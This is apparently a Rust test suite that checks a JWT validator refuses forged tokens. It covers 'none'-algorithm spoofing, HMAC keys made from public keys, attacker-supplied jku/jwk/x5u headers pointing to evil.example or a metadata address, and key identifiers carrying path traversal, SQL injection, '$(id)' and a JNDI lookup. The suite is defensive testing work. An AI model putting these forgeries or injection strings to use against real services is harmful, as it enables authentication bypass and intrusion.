//! Attacks by what the header says.

use crate::{
    api::{
        AUDIENCE, Api, ISSUER, NOW, claims, clock, encoded, good, header, key_of, sealed, signed,
        token, with,
    },
    keys::{Key, authenticated},
};
use base64::{Engine, prelude::BASE64_STANDARD};
use serde_json::{Value, json};
use tower_oauth2::{
    Algorithm,
    validate::{Jwks, JwtValidator, TrustedIssuer},
};

/// The claims under `header`, with this signature.
fn unsigned(header: &Value, signature: &str) -> String {
    format!("{}.{}.{signature}", encoded(header.to_string()), encoded(claims().to_string()))
}

#[tokio::test]
async fn no_algorithm_however_it_is_spelled_is_no_signature() {
    let (api, good) = (Api::new(), good("k1"));
    let signature = good.rsplit('.').next().unwrap();
    let spellings = [
        "none", "None", "NONE", "nOnE", "none ", " none", "none\0", "", "null", "NoNe", "es256",
        "ES256 ", "ES256\0", "ES256K", "ES512", "EdDSA2", "HS1", "RS1", "A128KW", "ECDH-ES", "dir",
    ];
    let values = spellings.iter().map(|name| json!(name));
    for alg in values.chain([json!(null), json!(true), json!(0), json!(["ES256"]), json!({})]) {
        for kid in [json!({"kid": "k1"}), json!({})] {
            let header = with(json!({"alg": alg, "typ": "at+jwt"}), kid);
            for signature in ["", signature, "AA"] {
                api.refuses(&format!("alg {alg}"), &unsigned(&header, signature)).await;
            }
            api.refuses(&format!("alg {alg}, signed"), &token(&header, &claims())).await;
        }
    }
    let header = json!({"typ": "at+jwt", "kid": "k1"});
    api.refuses("no alg", &unsigned(&header, "")).await;
    api.refuses("no alg, signed", &token(&header, &claims())).await;
    api.refuses("no signature", &unsigned(&crate::api::header("ES256", "k1"), "")).await;
}

/// What an attacker may take for the secret of an HMAC: everything that is public of `key`.
fn public_texts(key: &Key, kid: &str) -> Vec<(&'static str, Vec<u8>)> {
    let pem = key.spki_pem().unwrap();
    let body: String = pem.lines().filter(|line| !line.starts_with('-')).collect();
    let jwk = key.jwk(kid);
    let mut texts = vec![
        ("PEM", pem.clone().into_bytes()),
        ("PEM without its last line break", pem.trim_end().into()),
        ("PEM with CRLF", pem.replace('\n', "\r\n").into_bytes()),
        ("PEM body", body.clone().into_bytes()),
        ("DER", BASE64_STANDARD.decode(body).unwrap()),
        ("JWK", jwk.to_string().into_bytes()),
        ("JWK, spaced", serde_json::to_vec_pretty(&jwk).unwrap()),
        ("JWK, bare", Value::from(key.members()).to_string().into_bytes()),
        ("JWK set", json!({"keys": crate::api::entries(ISSUER)}).to_string().into_bytes()),
        ("nothing", Vec::new()),
    ];
    let mut raw = Vec::new();
    for name in ["n", "e", "x", "y"] {
        if let Some(text) = jwk[name].as_str() {
            raw.extend(crate::api::decoded(text));
            texts.push(("a number", crate::api::decoded(text)));
            texts.push(("a number as text", text.into()));
        }
    }
    texts.push(("point", [&[4], &raw[..]].concat()));
    texts.push(("numbers", raw));
    texts
}

#[tokio::test]
async fn a_public_key_is_no_secret_of_an_hmac_in_whatever_form() {
    let api = Api::new();
    for kid in ["r1", "k1", "p3", "e1"] {
        for (form, secret) in public_texts(&key_of(ISSUER, kid), kid) {
            for algorithm in ["HS256", "HS384", "HS512"] {
                let header = header(algorithm, kid).to_string();
                let input = format!("{}.{}", encoded(header), encoded(claims().to_string()));
                let tag = authenticated(algorithm, &secret, input.as_bytes());
                let token = format!("{input}.{}", encoded(tag));
                api.refuses(&format!("{algorithm} with {form} of {kid}"), &token).await;
            }
        }
    }
}

#[tokio::test]
async fn an_issuer_with_a_shared_secret_takes_its_one_algorithm_alone() {
    let secret = "a secret of the issuer, of sixty-four characters, no more no less";
    let keys = Jwks::from_secret(Algorithm::Hs256, secret).unwrap();
    let issuer = TrustedIssuer::new(ISSUER, keys).with_audience([AUDIENCE]);
    let validator = JwtValidator::new(issuer).unwrap().with_clock(clock());
    let api = Api::over(validator, crate::api::Web::default());
    let made = |algorithm: &str, key: &[u8]| {
        let header = header(algorithm, "k1").to_string();
        let input = format!("{}.{}", encoded(header), encoded(claims().to_string()));
        format!("{input}.{}", encoded(authenticated(algorithm, key, input.as_bytes())))
    };
    let good = made("HS256", secret.as_bytes());
    api.takes("its own", &good).await;
    let wrong = api.sees(&made("HS256", b"another")).await;
    for (name, token) in [
        ("another hash", made("HS512", secret.as_bytes())),
        ("no secret", made("HS256", b"")),
        ("by ES256", crate::api::good("k1")),
        ("by RS256", crate::api::good("r1")),
        ("by nobody", unsigned(&header("none", "k1"), "")),
        ("cut", good[..good.len() - 4].to_owned()),
    ] {
        assert_eq!(api.sees(&token).await, wrong, "{name}");
        api.takes(name, &good).await;
    }
    assert!(api.web.asked().is_empty());
}

#[tokio::test]
async fn a_critical_extension_is_never_understood() {
    let api = Api::new();
    for crit in [
        json!([]),
        json!(["exp"]),
        json!(["b64"]),
        json!(["alg", "kid"]),
        json!(["http://example.com/UNDEFINED"]),
        json!([1]),
        json!("exp"),
        json!(""),
        json!(null),
        json!({}),
        json!(true),
    ] {
        for more in [json!({}), json!({"exp": NOW + 300}), json!({"b64": true})] {
            let header = with(with(header("ES256", "k1"), more), json!({"crit": crit}));
            api.refuses(&format!("crit {crit}"), &token(&header, &claims())).await;
        }
    }
}

#[tokio::test]
async fn a_key_that_the_token_brings_along_is_not_used() {
    let api = Api::new();
    let evil = Key::of("evil", "ES256").unwrap();
    let der = BASE64_STANDARD.encode([0x30, 0x03, 0x02, 0x01, 0x01]);
    for brought in [
        json!({"jwk": evil.members()}),
        json!({"jwk": evil.jwk("k1")}),
        json!({"jku": "https://evil.example/jwks"}),
        json!({"jku": "https://as.example/jwks#@evil.example"}),
        json!({"jku": "file:///etc/passwd"}),
        json!({"jku": "http://169.254.169.254/latest/meta-data"}),
        json!({"x5u": "https://evil.example/cert.pem"}),
        json!({"x5c": [der]}),
        json!({"x5t": encoded([0; 20]), "x5t#S256": encoded([0; 32])}),
        json!({"iss": ISSUER, "keys": [evil.jwk("k1")]}),
    ] {
        for kid in [json!({}), json!({"kid": "evil"}), json!({"kid": "k1"})] {
            let header = with(json!({"alg": "ES256", "typ": "at+jwt"}), brought.clone());
            let token = signed(&evil, with(header, kid).to_string(), claims().to_string());
            api.refuses(&brought.to_string(), &token).await;
        }
        // The issuer may say so of its own key: nobody looks there either.
        api.takes("of the issuer", &token(&with(header("ES256", "k1"), brought), &claims())).await;
    }
    // What the issuer signed is not taken where it is malformed.
    for brought in [
        json!({"jwk": "{}"}),
        json!({"jwk": []}),
        json!({"jku": 1}),
        json!({"x5u": ["https://evil.example"]}),
        json!({"x5c": "MIIB"}),
        json!({"x5c": [1]}),
        json!({"cty": null}),
        json!({"kid": 1}),
        json!({"kid": null}),
        json!({"kid": ["k1"]}),
        json!({"typ": ["at+jwt"]}),
    ] {
        let token = token(&with(header("ES256", "k1"), brought.clone()), &claims());
        api.refuses(&brought.to_string(), &token).await;
    }
}

#[tokio::test]
async fn a_key_identifier_is_compared_and_nothing_else() {
    let long = "k".repeat(8 * 1024);
    for kid in [
        "../../etc/passwd",
        "../../../../../../dev/null",
        "/dev/null",
        "..\\..\\windows\\win.ini",
        "https://evil.example/jwks",
        "//evil.example/jwks",
        "file:///etc/passwd",
        "' OR '1'='1",
        "x' UNION SELECT 'secret' --",
        "k1\0",
        "\0",
        "k1\u{0}.pem",
        "k1 ",
        " k1",
        "K1",
        "\u{212a}1",
        "k\u{0661}",
        "|/bin/sleep 10",
        "$(id)",
        "${jndi:ldap://evil.example/a}",
        "k1\r\nX-Injected: 1",
        "__proto__",
        "*",
        "k1/../k1",
        "https://as.example/jwks?kid=k1",
        &long,
    ] {
        let api = Api::new();
        let header = with(header("ES256", "k1"), json!({"kid": kid}));
        api.refuses(kid, &token(&header, &claims())).await;
        // One fetch for the keys, and one to look for what is not among them.
        assert!(api.web.asked().len() <= 2, "{:?}", api.web.asked());
    }
}

#[tokio::test]
async fn a_key_is_used_with_the_algorithm_that_it_is_for() {
    let api = Api::new();
    for kid in ["k1", "p3", "r1", "e1"] {
        let key = key_of(ISSUER, kid);
        for algorithm in [
            "RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "ES384", "EdDSA",
            "Ed25519",
        ] {
            let header = header(algorithm, kid).to_string();
            let input = format!("{}.{}", encoded(header), encoded(claims().to_string()));
            let token = sealed(&key, algorithm, &input);
            let fits = crate::api::KEYS.contains(&(kid, algorithm))
                || (kid, algorithm) == ("e1", "Ed25519");
            match fits {
                true => api.takes(algorithm, &token).await,
                false => api.refuses(&format!("{algorithm} with {kid}"), &token).await,
            }
        }
    }
}

#[tokio::test]
async fn a_token_without_a_key_identifier_is_by_the_one_key_for_its_algorithm() {
    let api = Api::new();
    let header = json!({"alg": "ES256", "typ": "at+jwt"}).to_string();
    let own = signed(&key_of(ISSUER, "k1"), &header, claims().to_string());
    api.takes("by the only key for ES256", &own).await;
    for (kid, algorithm) in [("p3", "ES384"), ("r1", "RS256")] {
        let token = signed(&key_of(ISSUER, kid), &header, claims().to_string());
        api.refuses(&format!("by a key for {algorithm}"), &token).await;
    }
}
